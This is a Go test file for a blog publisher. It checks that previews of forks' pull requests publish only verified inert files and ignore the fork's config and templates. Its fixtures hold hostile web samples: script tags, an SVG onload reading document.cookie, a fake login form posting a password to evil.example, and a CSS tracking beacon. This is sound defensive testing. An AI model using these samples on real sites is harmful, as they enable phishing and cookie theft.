package publisher

import (
	"bytes"
	"image"
	"image/png"
	"slices"
	"strings"
	"testing"

	"github.com/publishbot/publishbot/gitserver"
	"github.com/publishbot/publishbot/queue"
)

func pngBytes(t testing.TB) string {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 2, 2))); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestInertProblem(t *testing.T) {
	avif := "\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + strings.Repeat("\x00", 16)
	for _, tc := range []struct {
		name, data string
		ok         bool
	}{
		{"a.png", pngBytes(t), true},
		{"A.PNG", pngBytes(t), true},
		{"a.jpg", "\xff\xd8\xff\xe0\x00\x10JFIF", true},
		{"a.jpeg", "\xff\xd8\xff\xe0\x00\x10JFIF", true},
		{"a.gif", "GIF89a\x01\x00\x01\x00", true},
		{"a.webp", "RIFF\x24\x00\x00\x00WEBPVP8 ", true},
		{"a.avif", avif, true},
		{"a.pdf", "%PDF-1.7\n", true},
		{"notes.txt", "Plain notes.\n", true},
		{"a.woff2", "wOF2\x00\x01\x00\x00", true},
		{"a.woff", "wOFF\x00\x01\x00\x00", true},
		{"a.ttf", "\x00\x01\x00\x00\x00\x10", true},
		{"a.otf", "OTTO\x00\x10", true},

		{"login.html", "<html><script>steal()</script></html>", false},
		{"icon.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`, false},
		{"app.js", "alert(1)", false},
		{"style.css", "body{}", false},
		{"feed.xml", "<?xml version='1.0'?><x/>", false},
		{"CNAME", "evil.example", false},
		{"page.md", "# hi", false},
		{"favicon.ico", "\x00\x00\x01\x00", false},
		{"fake.png", "<html><script>steal()</script></html>", false},     // an extension that lies
		{"fake.jpg", pngBytes(t), false},                                 // another image than it says
		{"fake.avif", "\x00\x00\x00\x1cftypmp42\x00\x00\x00\x00", false}, // not AVIF
		{"svg.txt", `  <svg onload="alert(1)">`, false},                  // text that is markup
		{"html.txt", "<!DOCTYPE html><script>x()</script>", false},
		{"latin1.txt", "caf\xe9", false},
		{"bin.txt", "\x00\x01\x02", false},
		{"fake.pdf", "<html>", false},
		{"x.[a](https://evil.example)", "x", false},
	} {
		got := inertProblem(tc.name, []byte(tc.data))
		if (got == "") != tc.ok {
			t.Errorf("%s: problem %q, want allowed: %v", tc.name, got, tc.ok)
		}
		if strings.ContainsAny(got, "[]<>`") || strings.Contains(got, "evil") {
			t.Errorf("%s: the reason %q quotes the file's name", tc.name, got)
		}
	}
}

// forkFiles is what the fork adds or changes: a page with a script and a
// fake login form, an SVG with onload, an image and an image that lies about
// its type, plain text, a changed stylesheet, a bundle with an HTML file and
// an image, a post with raw HTML, and the base branch's trusted files
// changed (publish.yaml, templates/).
func forkFiles(t testing.TB) map[string]string {
	return map[string]string{
		"static/login.html":                 `<form action="https://evil.example/steal"><input name=password></form><script>steal()</script>`,
		"static/badge.svg":                  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>`,
		"static/ok.png":                     pngBytes(t),
		"static/fake.png":                   `<html><script>steal()</script></html>`,
		"static/notes.txt":                  "Some notes.\n",
		"static/app.js":                     "steal()",
		"static/images/x.js":                "steal()",
		"publish.yaml":                      "title: Hacked\nunsafe_html: true\n",
		"templates/post.html":               "HACKED",
		"posts/2026-06-19-bundle/index.md":  "---\ntitle: A bundle\ndate: 2026-06-19\n---\n\n![pic](pic.png) <script>alert(1)</script> <b onmouseover=\"x()\">raw</b>\n",
		"posts/2026-06-19-bundle/pic.png":   pngBytes(t),
		"posts/2026-06-19-bundle/page.html": "<script>steal()</script>",
	}
}

// forkBase is the example blog with unsafe_html on (its own authors are
// trusted) and a stylesheet of its own.
func forkBase(t *testing.T, e *env) string {
	t.Helper()
	files := exampleBlog(t)
	files["publish.yaml"] += "unsafe_html: true\n"
	files["static/site.css"] = "body { color: black }\n"
	files["static/about.html"] = "<p>the base branch's own page</p>"
	base := e.commit(gitserver.Change{Ref: "main", Message: "Import the blog", Files: files})
	mustOutcome(t, e.publish(base), OutcomePublished)
	return base
}

func TestForkPreviewPublishesOnlyInertFiles(t *testing.T) {
	e := newEnv(t)
	base := forkBase(t, e)
	files := forkFiles(t)
	files["static/site.css"] = "body { background: url(https://evil.example/track) }\n"
	head := e.commit(gitserver.Change{Ref: "refs/pull/9/head", Parent: base, Message: "Fork changes", Files: files})
	j := queue.Job{Kind: queue.KindPreview, Repo: e.repo(), Ref: "refs/pull/9/head", SHA: head, PR: 9, BaseRef: "main", HeadRepo: "forker/blog"}
	if !j.FromFork() {
		t.Fatal("the job is not a fork's")
	}
	r := e.run(j)
	mustOutcome(t, r, OutcomePublished)
	pages := e.files("gh-pages")
	pre := "pr-preview/pr-9/"
	for _, want := range []string{"ok.png", "notes.txt", "site.css", "about.html", "posts/bundle/index.html", "posts/bundle/pic.png", "index.html"} {
		if !slices.Contains(pages, pre+want) {
			t.Errorf("%s missing from the preview", want)
		}
	}
	for _, bad := range []string{"login.html", "badge.svg", "fake.png", "app.js", "images/x.js", "posts/bundle/page.html"} {
		if slices.Contains(pages, pre+bad) {
			t.Errorf("the fork's %s was published in its preview", bad)
		}
	}
	if got := e.show("gh-pages", pre+"site.css"); got != "body { color: black }" {
		t.Errorf("site.css in the preview is %q, want the base branch's", got)
	}
	page := e.show("gh-pages", pre+"posts/bundle/index.html")
	for _, bad := range []string{"<script>alert(1)", "onmouseover", "HACKED", "Hacked"} {
		if strings.Contains(page, bad) {
			t.Errorf("the fork's %q reached its preview page", bad)
		}
	}
	// Nothing else on the pages branch holds what the fork wrote.
	for _, f := range e.files("gh-pages") {
		if c := e.show("gh-pages", f); strings.Contains(c, "steal()") || strings.Contains(c, "onload=") || strings.Contains(c, "evil.example") {
			t.Errorf("%s holds the fork's script", f)
		}
	}
	want := map[string]string{
		"posts/2026-06-19-bundle/page.html": "a fork's .html files are not published",
		"publish.yaml":                      "previews use the base branch's publish.yaml",
		"static/app.js":                     "a fork's .js files are not published",
		"static/badge.svg":                  "a fork's .svg files are not published",
		"static/fake.png":                   "its content is text/html, not what .png says",
		"static/images/x.js":                "a fork's .js files are not published",
		"static/login.html":                 "a fork's .html files are not published",
		"static/site.css":                   "the base branch's version is shown",
		"templates/post.html":               "previews use the base branch's templates",
	}
	var got []string
	for _, l := range r.LeftOut {
		got = append(got, l.Path)
		if w, ok := want[l.Path]; !ok || !strings.Contains(l.Reason, w) {
			t.Errorf("left out %s: %q, want %q", l.Path, l.Reason, w)
		}
	}
	if len(got) != len(want) || !slices.IsSorted(got) {
		t.Errorf("left out %q, want the %d files above, sorted", got, len(want))
	}
}

// The same changes from a branch of the repository itself are the work of
// someone who may push: its files are published as they are.
func TestSameRepositoryPreviewKeepsItsFiles(t *testing.T) {
	e := newEnv(t)
	base := forkBase(t, e)
	head := e.commit(gitserver.Change{Ref: "refs/pull/9/head", Parent: base, Message: "Branch changes", Files: forkFiles(t)})
	r := e.run(queue.Job{Kind: queue.KindPreview, Repo: e.repo(), Ref: "refs/pull/9/head", SHA: head, PR: 9, BaseRef: "main", HeadRepo: testRepo})
	mustOutcome(t, r, OutcomePublished)
	pages := e.files("gh-pages")
	for _, want := range []string{"login.html", "badge.svg", "app.js", "posts/bundle/page.html"} {
		if !slices.Contains(pages, "pr-preview/pr-9/"+want) {
			t.Errorf("%s missing from a same-repository preview", want)
		}
	}
	if !strings.Contains(e.show("gh-pages", "pr-preview/pr-9/posts/bundle/index.html"), "<b") {
		t.Errorf("the base branch's unsafe_html does not apply to its own branches")
	}
	if len(r.LeftOut) != 2 || r.LeftOut[0].Path != "publish.yaml" || r.LeftOut[1].Path != "templates/post.html" {
		t.Errorf("left out %+v, want publish.yaml and templates/post.html only", r.LeftOut)
	}
}

// Every key of the fork's publish.yaml that decides what runs or what is
// trusted is the base branch's: the preview goes to the base branch's pages
// branch, under its base_url, with previews on and raw HTML off as the base
// says, and no custom domain.
func TestForkPublishYAMLIsIgnored(t *testing.T) {
	e := newEnv(t)
	base := e.commit(gitserver.Change{Ref: "main", Message: "Import the blog", Files: exampleBlog(t)})
	mustOutcome(t, e.publish(base), OutcomePublished)
	head := e.commit(gitserver.Change{Ref: "refs/pull/5/head", Parent: base, Message: "config", Files: map[string]string{
		"publish.yaml": "title: Hacked\nbase_url: https://evil.example/\ncname: evil.example\npages_branch: evil-pages\n" +
			"previews: false\nunsafe_html: true\nembeds: true\nanalytics: evil\nsource_branch: evil\n",
		"posts/2026-06-19-raw.md": "---\ntitle: Raw\ndate: 2026-06-19\n---\n\n<iframe src=\"https://evil.example\"></iframe>\n",
	}})
	r := e.run(queue.Job{Kind: queue.KindPreview, Repo: e.repo(), Ref: "refs/pull/5/head", SHA: head, PR: 5, BaseRef: "main", HeadRepo: "forker/blog"})
	mustOutcome(t, r, OutcomePublished)
	if r.SiteURL != "https://acme.github.io/blog/pr-preview/pr-5/" {
		t.Errorf("preview URL %q, want under the base branch's base_url", r.SiteURL)
	}
	if e.head("evil-pages") != "" || e.head("refs/heads/evil") != "" {
		t.Error("the fork's pages_branch was written")
	}
	files := e.files("gh-pages")
	if slices.Contains(files, "pr-preview/pr-5/CNAME") || slices.Contains(files, "CNAME") {
		t.Error("the fork's cname was published")
	}
	for _, f := range files {
		if strings.HasPrefix(f, "pr-preview/pr-5/") {
			if c := e.show("gh-pages", f); strings.Contains(c, "evil.example") || strings.Contains(c, "Hacked") || strings.Contains(c, "<iframe") {
				t.Errorf("%s holds the fork's settings or raw HTML", f)
			}
		}
	}
}

// TestForkPreviewIsIncremental: a fork's pull request pushed three times
// is previewed with the build cache as without it — the same pages tree
// and the same files left out, every time, though the later pushes make
// only what they changed (a file left out is made and checked again at
// every push, never kept).
func TestForkPreviewIsIncremental(t *testing.T) {
	inc := newEnv(t, func(o *Options) { o.Cache = openBuildCache(t) })
	full := newEnv(t)
	made := recordBuilds(inc)
	var base, head [2]string // each env's own
	for i, e := range []*env{inc, full} {
		base[i] = forkBase(t, e)
		head[i] = base[i]
	}
	push := func(msg string, files map[string]string) Result {
		var rs [2]Result
		for i, e := range []*env{inc, full} {
			head[i] = e.commit(gitserver.Change{Ref: "refs/pull/9/head", Parent: head[i], Message: msg, Files: files})
			rs[i] = e.run(queue.Job{Kind: queue.KindPreview, Repo: e.repo(), Ref: "refs/pull/9/head", SHA: head[i], PR: 9, BaseRef: "main", BaseSHA: base[i], HeadRepo: "forker/blog"})
			mustOutcome(t, rs[i], OutcomePublished)
		}
		if a, b := inc.git("rev-parse", "gh-pages^{tree}"), full.git("rev-parse", "gh-pages^{tree}"); a != b {
			t.Fatalf("%s: the incremental preview made tree %s, the full one %s:\n%s", msg, a, b, inc.git("diff", "--stat", b, a))
		}
		if !slices.Equal(rs[0].LeftOut, rs[1].LeftOut) {
			t.Fatalf("%s: left out %v, without the cache %v", msg, rs[0].LeftOut, rs[1].LeftOut)
		}
		return rs[0]
	}
	first := forkFiles(t)
	first["static/site.css"] = "body { background: url(https://evil.example/track) }\n"
	push("fork changes", first)
	all := len(*made)
	bundle := first["posts/2026-06-19-bundle/index.md"]
	r := push("the bundle's text", map[string]string{
		"posts/2026-06-19-bundle/index.md": strings.Replace(bundle, "raw</b>", "raw</b> and more text <script>x()</script>", 1),
	})
	if len(*made) > all/3 {
		t.Errorf("a second push of one post's text made %d of the preview's %d files: %v", len(*made), all, *made)
	}
	t.Logf("second push: %d of %d files made: %v", len(*made), all, *made)
	if len(r.LeftOut) < 8 {
		t.Errorf("the second push lists %d files left out, want the first push's still: %v", len(r.LeftOut), r.LeftOut)
	}
	push("the stylesheet again, a new page and a new post", map[string]string{
		"static/site.css":          "body { color: red }\n",
		"static/new.html":          "<script>steal()</script>",
		"posts/2026-06-20-more.md": "---\ntitle: More\ndate: 2026-06-20\n---\n\nMore <script>x()</script>.\n",
	})
	for _, f := range inc.files("gh-pages") {
		if c := inc.show("gh-pages", f); strings.Contains(c, "steal()") || strings.Contains(c, "evil.example") {
			t.Errorf("%s holds the fork's script", f)
		}
	}
}
